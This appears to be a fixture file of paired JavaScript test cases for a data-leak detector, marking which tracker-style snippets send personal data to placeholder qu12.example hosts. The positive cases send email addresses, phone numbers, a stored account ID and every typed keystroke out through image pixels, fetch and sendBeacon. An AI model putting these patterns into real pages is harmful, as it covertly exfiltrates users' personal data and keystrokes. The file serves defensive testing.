//# commands-applied-later
// flow: identifier > cal.qu12.example via image
var _mq = (window._mq = window._mq || []);
_mq.push(['setUserId', localStorage.getItem('account')]);
_mq.push(['trackPageView']);
(function () {
  var uid = '';
  var methods = {
    setUserId: function (v) { uid = v; },
    trackPageView: function () { new Image().src = 'https://cal.qu12.example/p.php?uid=' + encodeURIComponent(uid); },
  };
  function apply(cmd) { methods[cmd[0]].apply(methods, cmd.slice(1)); }
  for (var i = 0; i < _mq.length; i++) apply(_mq[i]);
  window._mq = { push: apply };
})();

//# near-command-that-only-logs
// no flow
// why: the address is given to the command that logs; the one that sends gets a name
var _lq = (window._lq = window._lq || []);
_lq.push(['log', document.querySelector('input[type=email]').value]);
_lq.push(['track', 'view']);
(function () {
  var methods = {
    log: function (m) { console.log(m); },
    track: function (n) { new Image().src = 'https://ncl.qu12.example/t?n=' + n; },
  };
  function apply(cmd) { methods[cmd[0]].apply(methods, cmd.slice(1)); }
  for (var i = 0; i < _lq.length; i++) apply(_lq[i]);
  window._lq = { push: apply };
})();

//# methods-made-by-a-factory
// flow: email > mmf.qu12.example via fetch
var stats = (window.stats = window.stats || []);
stats.methods = ['track', 'identify', 'page'];
stats.factory = function (m) {
  return function () {
    var args = Array.prototype.slice.call(arguments);
    args.unshift(m);
    stats.push(args);
    return stats;
  };
};
for (var i = 0; i < stats.methods.length; i++) stats[stats.methods[i]] = stats.factory(stats.methods[i]);
stats.identify({ email: document.querySelector('input[type=email]').value });
(function (q) {
  var real = {
    identify: function (t) { fetch('https://mmf.qu12.example/i', { method: 'POST', body: JSON.stringify(t) }); },
    track: function () {},
    page: function () {},
  };
  while (q.length) {
    var c = q.shift();
    real[c.shift()].apply(real, c);
  }
})(window.stats);

//# batch-sent-when-left
// flow: keystrokes > bsl.qu12.example via beacon
const pending = [];
const track = (type, props) => {
  pending.push({ type, props, at: Date.now() });
  if (pending.length >= 20) flush();
};
function flush() {
  if (!pending.length) return;
  navigator.sendBeacon('https://bsl.qu12.example/b', JSON.stringify(pending.splice(0)));
}
addEventListener('pagehide', flush);
document.addEventListener('keydown', (e) => track('key', { k: e.key }));

//# near-batch-of-counts
// no flow
// why: the key itself is not kept, only how many there were
const counts = {};
const track = (type, props) => { counts[type] = (counts[type] || 0) + 1; };
addEventListener('pagehide', () => navigator.sendBeacon('https://nbc.qu12.example/b', JSON.stringify(counts)));
document.addEventListener('keydown', (e) => track('key', { k: e.key }));

//# call-method-stub
// flow: email > cms.qu12.example via image
!(function (f) {
  if (f.px) return;
  var n = (f.px = function () { n.callMethod ? n.callMethod.apply(n, arguments) : n.queue.push(arguments); });
  n.queue = [];
  n.loaded = !0;
})(window);
px('init', '123', { em: document.querySelector('input[type=email]').value });
px.callMethod = function (cmd, id, user) {
  if (cmd === 'init') new Image().src = 'https://cms.qu12.example/tr?id=' + id + '&em=' + (user && user.em);
};
px.queue.forEach(function (a) { px.callMethod.apply(px, a); });

//# near-call-method-other-argument
// no flow
// why: only the id is put into the address
!(function (f) {
  if (f.px) return;
  var n = (f.px = function () { n.callMethod ? n.callMethod.apply(n, arguments) : n.queue.push(arguments); });
  n.queue = [];
})(window);
px('init', '123', { em: document.querySelector('input[type=email]').value });
px.callMethod = function (cmd, id, user) {
  if (cmd === 'init') new Image().src = 'https://ncm.qu12.example/tr?id=' + id + '&u=' + (user ? 1 : 0);
};
px.queue.forEach(function (a) { px.callMethod.apply(px, a); });

//# push-wrapped
// flow: phone > pwr.qu12.example via fetch
window.evLayer = window.evLayer || [];
const push0 = evLayer.push.bind(evLayer);
evLayer.push = (...items) => {
  items.forEach((it) => fetch('https://pwr.qu12.example/e', { method: 'POST', body: JSON.stringify(it) }));
  return push0(...items);
};
evLayer.push({ event: 'lead', phone: document.querySelector('input[type=tel]').value });

//# near-push-wrapped-event-name
// no flow
window.evLayer = window.evLayer || [];
const push0 = evLayer.push.bind(evLayer);
evLayer.push = (...items) => {
  items.forEach((it) => fetch('https://npw.qu12.example/e?n=' + it.event));
  return push0(...items);
};
evLayer.push({ event: 'lead', phone: document.querySelector('input[type=tel]').value });
